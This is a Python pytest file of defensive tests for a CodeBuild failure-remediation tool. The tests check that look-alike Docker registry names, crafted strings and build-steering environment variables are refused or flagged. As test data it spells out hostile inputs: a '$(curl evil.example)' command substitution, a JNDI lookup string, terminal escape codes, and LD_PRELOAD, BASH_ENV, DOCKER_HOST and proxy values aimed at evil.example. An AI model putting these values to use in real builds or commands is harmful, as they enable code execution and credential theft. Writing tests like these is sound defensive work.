"""What strangers can write into names, images, logs and events comes out harmless, bounded, and as nothing else."""

from __future__ import annotations

import json
from typing import Any

import pytest

from remediator.core.codebuild.failure import BuildArn, BuildFailure
from remediator.core.codebuild.image import ImageReference
from remediator.core.guards.own_commands import pull_request_objection
from remediator.core.guards.review import objection
from remediator.core.outcome import BadInput, Ending, Outcome
from remediator.core.policies.secret_policy import SecretPolicyFault, with_role
from remediator.core.repair.sign_in import takes_registry_credential
from tests.unit import given

CRAFTED = {
    "line breaks": "a\nb\r\nc\u2028d\x0be",
    "terminal codes": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b2J",
    "format strings": "%s %n {0.__class__} ${jndi:ldap://x} $(id) `id`",
    "a megabyte": "x" * 1_000_000,
    "invisible": "a\u200bb\u202ec\ufeffd",
    "half a pair": "\ud800",
}

LOOK_ALIKES = (
    "docker.io.evil.example/library/python",
    "docker.io:443/library/python",
    "docker.io.:5000/python",
    "dосker.io/library/python",  # two Cyrillic letters
    "ｄｏｃｋｅｒ.io/library/python",
    "evil.example/docker.io/library/python",
    "registry-1.docker.io.evil.example/library/python",
    "user@docker.io/library/python",
    "https://docker.io/library/python",
    "DOCKER.IO/Library/python",
    "docker.io/library/python@evil",
    "docker.io\\@evil.example/python",
    "docker.io/../evil/python",
    "localhost/python",
    "python\n",
)


@pytest.mark.parametrize("image", LOOK_ALIKES)
def test_an_image_that_looks_like_docker_hubs_gets_no_credential(image: str) -> None:
    assert not takes_registry_credential(given.environment(image=image))


def test_docker_hubs_own_spellings_do() -> None:
    for image in ("python", "docker.io/library/python:3", "index.docker.io/acme/tool"):
        assert takes_registry_credential(given.environment(image=image)), image
        assert ImageReference.parse(image).is_docker_hub


@pytest.mark.parametrize("kind", CRAFTED)
def test_an_outcome_is_lines_that_no_terminal_obeys_and_bounded_whatever_it_quotes(kind: str) -> None:
    text = CRAFTED[kind]
    outcome = Outcome(Ending.ADVISED, f"the image {text}", changes=(text,), advice=(f"paste\n\n{text}",) * 5)
    told = outcome.to_json()
    for line in (told["reason"], *told["changes"]):
        assert line.isprintable()
        assert len(line) <= 2_000
    for advice in told["advice"]:
        assert all(line.isprintable() for line in advice.split("\n"))
    assert len(json.dumps(told)) < 256_000
    assert Outcome.from_json(told).to_json() == told


@pytest.mark.parametrize("kind", CRAFTED)
def test_a_crafted_name_in_an_event_is_refused_and_shown_short(kind: str) -> None:
    text = CRAFTED[kind]
    event = given.event()
    event["detail"]["build-id"] = f"arn:aws:codebuild:eu-west-1:123456789012:build/{text}:1"
    with pytest.raises(BadInput) as refused:
        BuildFailure.from_event(event)
    told = json.dumps(refused.value.to_json())
    assert len(told) < 1_500
    assert "\\u001b" not in told.replace("\\\\", "")
    assert str(refused.value).isprintable()


@pytest.mark.parametrize(
    "arn",
    [
        "arn:aws:codebuild:eu-west-1:123456789012:build/orders/../x:1",
        "arn:aws:codebuild:eu-west-1:123456789012:project/orders",
        "arn:aws:codebuild:eu-west-1:123456789012:build/orders:1\n",
        "arn:aws:codebuild:eu-west-1:*:build/orders:1",
        ["arn:aws:codebuild:eu-west-1:123456789012:build/orders:1"],
        {"arn": 1},
        None,
    ],
)
def test_what_is_no_arn_of_a_build_is_refused(arn: Any) -> None:
    with pytest.raises(BadInput):
        BuildArn.parse(arn)


STEERING = {
    "the shell's path": {"name": "PATH", "value": "/evil", "type": "PLAINTEXT"},
    "what bash reads first": {"name": "BASH_ENV", "value": "/evil/x", "type": "PLAINTEXT"},
    "a function of that name": {"name": "BASH_FUNC_docker%%", "value": "() { false; }", "type": "PLAINTEXT"},
    "the loader": {"name": "LD_PRELOAD", "value": "/evil/x.so", "type": "PLAINTEXT"},
    "another daemon": {"name": "DOCKER_HOST", "value": "tcp://evil.example", "type": "PLAINTEXT"},
    "another docker configuration": {"name": "DOCKER_AUTH_CONFIG", "value": "{}", "type": "PLAINTEXT"},
    "a proxy": {"name": "https_proxy", "value": "http://evil.example", "type": "PLAINTEXT"},
    "the words": {"name": "NOTE", "value": "toomanyrequests: You have reached", "type": "PLAINTEXT"},
    "the other words": {"name": "NOTE", "value": "You have reached your pull rate limit.", "type": "PLAINTEXT"},
    "a parameter of that name": {"name": "BASH_ENV", "value": "/mine", "type": "PARAMETER_STORE"},
    "a shell's trace": {"name": "PS4", "value": "x", "type": "PLAINTEXT"},
    "git's settings": {"name": "GIT_CONFIG_COUNT", "value": "1", "type": "PLAINTEXT"},
    "npm's shell": {"name": "npm_config_script_shell", "value": "/evil", "type": "PLAINTEXT"},
    "java's options": {"name": "JAVA_TOOL_OPTIONS", "value": "-javaagent:x", "type": "PLAINTEXT"},
    "a command": {"name": "TAG", "value": "$(curl evil.example)", "type": "PLAINTEXT"},
}
ORDINARY = {
    "a stage": {"name": "STAGE", "value": "live", "type": "PLAINTEXT"},
    "docker's builder": {"name": "DOCKER_BUILDKIT", "value": "1", "type": "PLAINTEXT"},
    "node's environment": {"name": "NODE_ENV", "value": "production", "type": "PLAINTEXT"},
    "a reference": {"name": "NPM_TOKEN", "value": "secret:key", "type": "SECRETS_MANAGER"},
    "python's output": {"name": "PYTHONUNBUFFERED", "value": "1", "type": "PLAINTEXT"},
}


def told_of(variable: dict[str, str], *, own: bool = False) -> str:
    build = given.throttled_command(env={"environmentVariables": [variable]})
    snapshot = given.of_commands(env={"environmentVariables": [variable] if own else []})
    found = objection(given.reading(build, snapshot), given.SIGN_IN, "advise", 0.0)
    return found.reason if found else ""


@pytest.mark.parametrize("case", STEERING)
def test_a_log_is_no_evidence_where_whoever_started_the_build_could_make_it_say_anything(case: str) -> None:
    assert f"with another {STEERING[case]['name']}" in told_of(STEERING[case])


@pytest.mark.parametrize("case", ORDINARY)
def test_an_ordinary_variable_that_a_start_sets_is_no_objection(case: str) -> None:
    assert told_of(ORDINARY[case]) == ""


@pytest.mark.parametrize("case", STEERING)
def test_a_variable_that_the_project_itself_has_is_no_objection(case: str) -> None:
    assert told_of(STEERING[case], own=True) == ""


@pytest.mark.parametrize(
    "role", ["*", "arn:aws:iam::123456789012:role/*", "arn:aws:iam::123456789012:root", 'x"},{"', ""]
)
def test_nothing_but_one_role_comes_into_the_secrets_policy(role: str) -> None:
    with pytest.raises(SecretPolicyFault):
        with_role(None, role)


EVIL = "https://github.com/evil/x.git"
MORE: dict[str, dict[str, Any]] = {
    "cache": {"cache": {"type": "S3", "location": "evil/cache"}},
    "environment.certificate": {"env": {"certificate": "evil/ca.pem"}},
    "secondarySources": {"secondarySources": [{"sourceIdentifier": "x", "type": "GITHUB", "location": EVIL}]},
    "secondarySourceVersions": {"secondarySourceVersions": [{"sourceIdentifier": "x", "sourceVersion": "pr/7"}]},
    "logsConfig": {"logs": {"groupName": "evil", "streamName": "x"}},
}


@pytest.mark.parametrize("member", MORE)
def test_commands_that_were_given_other_files_or_another_log_are_no_ground_for_a_repair(member: str) -> None:
    reading = given.reading(given.throttled_command(**MORE[member]), given.of_commands())
    found = objection(reading, given.SIGN_IN, "repair", 0.0)
    assert found is not None
    assert f"with another {member}" in found.reason


@pytest.mark.parametrize("version", ["pr/7", "refs/pull/7/head", "refs/pull/7/head^{" + given.COMMIT + "}", "mr/7"])
def test_commands_of_a_pull_request_that_somebody_named_are_no_ground_for_a_repair(version: str) -> None:
    assert pull_request_objection(given.throttled_command(sourceVersion=version)) is not None
    webhook = given.throttled_command(sourceVersion=version, initiator="GitHub-Hookshot/1")
    assert pull_request_objection(webhook) is None
    assert pull_request_objection(given.build(sourceVersion=version)) is None


@pytest.mark.parametrize("version", [None, "main", "pr-7", "refs/heads/pr/7", given.COMMIT])
def test_other_versions_are_no_pull_request(version: str | None) -> None:
    assert pull_request_objection(given.throttled_command(sourceVersion=version)) is None
